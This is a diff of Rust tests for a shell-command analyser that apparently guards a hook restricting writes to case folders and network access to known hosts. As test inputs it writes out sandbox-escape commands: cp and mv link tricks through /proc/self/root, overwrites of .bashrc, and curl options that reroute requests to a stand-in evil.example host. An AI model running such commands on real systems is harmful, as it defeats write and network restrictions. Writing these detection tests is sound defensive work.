@@ -971,8 +971,10 @@ fn remote_copy_tools_write_their_side_files() {
     ] {
         assert!(analyse(cmd).writes_outside(&roots), "{cmd}");
     }
+    // Without `-l`/`-a` rsync skips links (a remote tree's links, kept, point anywhere).
     for cmd in [
-        "rsync -avz siem.lab.example:/logs/ /cases/c1/logs/",
+        "rsync -rtvz siem.lab.example:/logs/ /cases/c1/logs/",
+        "rsync -avzL siem.lab.example:/logs/ /cases/c1/logs/",
         "scp siem.lab.example:/x /cases/c1/x",
     ] {
         assert!(!analyse(cmd).writes_outside(&roots), "{cmd}");
@@ -1068,4 +1070,159 @@ fn short_prefixes_and_clusters_of_dangerous_options_are_read() {
     let f = analyse("rsync --rs='ssh -o ProxyCommand=x' /cases/a siem.lab.example:/tmp/");
     assert!(f.hosts.contains(UNKNOWN), "{f:?}");
     assert!(!analyse("install --strip /cases/a /cases/b").opaque);
+}
+
+/// Review 4, F1: cp copies a symbolic link as a link (`-P`, `-d`, `-a`, `-r`/`-R` unless `-L`
+/// comes last, `--preserve=links`): an existing link to anywhere (`/proc/self/root` is `/`,
+/// `/proc/self/fd/3` the file opened on descriptor 3) becomes a link in the case folder, and
+/// writing through it lands outside. What a link-keeping copy copies is a write, as a link's
+/// target is; mv keeps links too.
+#[test]
+fn a_copy_that_keeps_links_writes_what_it_copies() {
+    let roots = vec!["/cases".to_string()];
+    for cmd in [
+        "cp -P /proc/self/root /cases/c-101/r",
+        "cp -a /proc/self/root /cases/c-101/r",
+        "cp -r /proc/self/root /cases/c-101/r",
+        "cp -R /proc/self/root /cases/c-101/r",
+        "cp -d /proc/self/root /cases/c-101/r",
+        "cp --no-dereference /proc/self/root /cases/c-101/r",
+        "cp --no-deref /proc/self/root /cases/c-101/r",
+        "cp --archive /proc/self/root /cases/c-101/r",
+        "cp --recursive /proc/self/root /cases/c-101/r",
+        "cp --preserve=links /proc/self/root /cases/c-101/r",
+        "cp -L -P /proc/self/root /cases/c-101/r",
+        "cp -rL -a /proc/self/root /cases/c-101/r",
+        "cp -P /proc/self/fd/3 /cases/c-101/d/.bashrc 3</home/analyst/.bashrc",
+        "cp -P /proc/self/fd/0 /cases/c-101/d/.curlrc < /home/analyst/.curlrc",
+        "cp -Pt /cases/c-101 /proc/self/root",
+        "mv /proc/self/root /cases/c-101/r",
+    ] {
+        let f = analyse(cmd);
+        assert!(f.writes_outside(&roots), "{cmd}: {f:?}");
+    }
+    // Links dereferenced, or a plain copy of a file: only the destination is written.
+    for cmd in [
+        "cp /srv/evidence/auth.log /cases/c-101/",
+        "cp -L /srv/evidence/auth.log /cases/c-101/",
+        "cp -rL /srv/evidence/logs /cases/c-101/logs",
+        "cp -a -L /srv/evidence/logs /cases/c-101/logs",
+        "cp -r /cases/c-101/stage /cases/c-101/t",
+    ] {
+        let f = analyse(cmd);
+        assert!(!f.writes_outside(&roots), "{cmd}: {f:?}");
+    }
+}
+
+/// Review 4, F1(b): a write into a directory writes below it; where the copy keeps links,
+/// each link in what it copies lands in the destination. The hook resolves both.
+#[test]
+fn writes_into_a_directory_and_copied_links_are_named_for_the_hook() {
+    let f = analyse("cp /cases/c-101/.bashrc /cases/c-101/d/");
+    assert!(f.writes_into.contains("/cases/c-101/d"), "{f:?}");
+    let f = analyse("cp -r /cases/c-101/stage/. /cases/c-101/t/");
+    assert!(f.writes_into.contains("/cases/c-101/t"), "{f:?}");
+    assert!(f.links_copied.contains("/cases/c-101/stage"), "{f:?}");
+    let f = analyse("cp -t /cases/c-101/d /cases/c-101/a /cases/c-101/b");
+    assert!(f.writes_into.contains("/cases/c-101/d"), "{f:?}");
+    let f = analyse("mv /cases/c-101/a /cases/c-101/d");
+    assert!(f.writes_into.contains("/cases/c-101/d"), "{f:?}");
+    assert!(f.links_copied.contains("/cases/c-101/a"), "{f:?}");
+    let f = analyse("cp -rL /cases/c-101/stage /cases/c-101/t");
+    assert!(f.links_copied.is_empty(), "{f:?}");
+}
+
+/// Review 4, F1(c): one script that makes a link and then writes below it writes where the
+/// link leads, which no check before the script runs can see: such a write is unknown.
+#[test]
+fn a_write_below_a_link_the_same_script_makes_is_unknown() {
+    let roots = vec!["/cases".to_string()];
+    for cmd in [
+        "ln -s /cases/c-101/sub /cases/c-101/l && cp /cases/c-101/a /cases/c-101/l/b",
+        "cp /cases/c-101/a /cases/c-101/l/b; ln -s /cases/c-101/sub /cases/c-101/l",
+        "cp -P /proc/self/root /cases/c-101/r && cp /cases/c-101/.bashrc /cases/c-101/r/home/analyst/.bashrc",
+        "cp -a /cases/c-101/stage /cases/c-101/t && echo x > /cases/c-101/t/d/.bashrc",
+        "mv /cases/c-101/stage /cases/c-101/t; echo x > /cases/c-101/t/d/x",
+        "ln -s /cases/c-101/sub /cases/c-101/dir/ && echo x > /cases/c-101/dir/sub/x",
+    ] {
+        let f = analyse(cmd);
+        assert!(f.writes_outside(&roots), "{cmd}: {f:?}");
+    }
+    // A link made beside the writes, not above them: known.
+    let f = analyse("ln -s /cases/c-101/a /cases/c-101/l && echo x > /cases/c-101/b");
+    assert!(!f.writes_outside(&roots), "{f:?}");
+}
+
+/// Review 4, F2: `--next` (`-:`) starts a new transfer whose options start afresh: each
+/// transfer's `-L` and `--max-redirs` are its own, so one transfer's `--max-redirs 0` does not
+/// stop another's redirects.
+#[test]
+fn each_curl_transfer_follows_its_own_redirects() {
+    for cmd in [
+        "curl -sL https://intel.lab.example/r -: --max-redirs 0 https://intel.lab.example/a",
+        "curl -s --max-redirs 0 https://intel.lab.example/a --next -sL https://intel.lab.example/r",
+        "curl -sL --max-redirs 0 https://intel.lab.example/a --next -L https://intel.lab.example/r",
+        "curl -sL https://intel.lab.example/a --nex --max-redirs 0 https://intel.lab.example/r",
+    ] {
+        let f = analyse(cmd);
+        assert!(f.hosts.contains(UNKNOWN), "{cmd}: {f:?}");
+    }
+    for cmd in [
+        "curl -s https://intel.lab.example/a --next -s https://intel.lab.example/b",
+        "curl -sL --max-redirs 0 https://intel.lab.example/a -: -sL --max-redirs 0 https://intel.lab.example/b",
+    ] {
+        let f = analyse(cmd);
+        assert_eq!(f.hosts, set(&["intel.lab.example"]), "{cmd}: {f:?}");
+    }
+}
+
+/// Review 4, F3: options that send the request to another host than the URL's — a cache file
+/// that maps a host to another (`--alt-svc`, `--hsts`), a resolver or address override, a
+/// proxy, a config file — leave the host unknown (a named proxy is a host reached).
+#[test]
+fn curl_options_that_reroute_leave_the_host_unknown() {
+    for cmd in [
+        "curl -sk --alt-svc /cases/c-101/as.txt https://intel.lab.example/?q=x",
+        "curl -s --alt /cases/c-101/as.txt https://intel.lab.example/",
+        "curl -s --hsts /cases/c-101/h.txt https://intel.lab.example/",
+        "curl -s --resolve intel.lab.example:443:203.0.113.9 https://intel.lab.example/",
+        "curl -s --connect-to intel.lab.example:443:evil.example:443 https://intel.lab.example/",
+        "curl -s --doh-url https://evil.example/dns https://intel.lab.example/",
+        "curl -s --dns-servers 203.0.113.9 https://intel.lab.example/",
+        "curl -s -K /cases/c-101/rc https://intel.lab.example/",
+        "curl -s --config /cases/c-101/rc https://intel.lab.example/",
+        "curl -s --socks5 evil.example:1080 https://intel.lab.example/",
+        "curl -s --unix-socket /tmp/s https://intel.lab.example/",
+        "curl -s --ipfs-gateway https://evil.example https://intel.lab.example/",
+    ] {
+        let f = analyse(cmd);
+        assert!(f.hosts.contains(UNKNOWN), "{cmd}: {f:?}");
+    }
+    for cmd in [
+        "curl -s -x evil.example:3128 https://intel.lab.example/",
+        "curl -s --proxy http://evil.example:3128 https://intel.lab.example/",
+        "curl -s --preproxy socks5://evil.example https://intel.lab.example/",
+    ] {
+        let f = analyse(cmd);
+        assert!(
+            f.hosts.contains("evil.example") || f.hosts.contains(UNKNOWN),
+            "{cmd}: {f:?}"
+        );
+    }
+}
+
+/// rsync `-a`/`-l` keeps links as cp `-a` does; links from a remote tree point anywhere.
+#[test]
+fn rsync_that_keeps_links_writes_what_it_copies() {
+    let roots = vec!["/cases".to_string()];
+    for cmd in [
+        "rsync -a /proc/self/root /cases/c-101/r",
+        "rsync -rl /proc/self/root /cases/c-101/r",
+        "rsync -a analyst@ws-042:/tmp/x /cases/c-101/x",
+    ] {
+        let f = analyse(cmd);
+        assert!(f.writes_outside(&roots), "{cmd}: {f:?}");
+    }
+    let f = analyse("rsync -aL /srv/evidence/logs /cases/c-101/logs");
+    assert!(!f.writes_outside(&roots), "{f:?}");
 }
